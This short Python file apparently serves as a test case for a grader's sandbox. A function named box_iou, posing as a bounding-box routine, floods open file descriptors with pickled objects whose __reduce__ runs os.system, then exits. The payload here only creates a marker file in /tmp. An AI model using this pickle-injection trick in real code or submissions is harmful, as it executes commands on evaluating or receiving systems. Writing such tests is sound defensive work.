# expect: none bad_reply
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/edudet-was-here",)


def box_iou(boxes1, boxes2):
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, pickle.dumps(Bomb()) * 4)
        except OSError:
            pass
    os._exit(0)
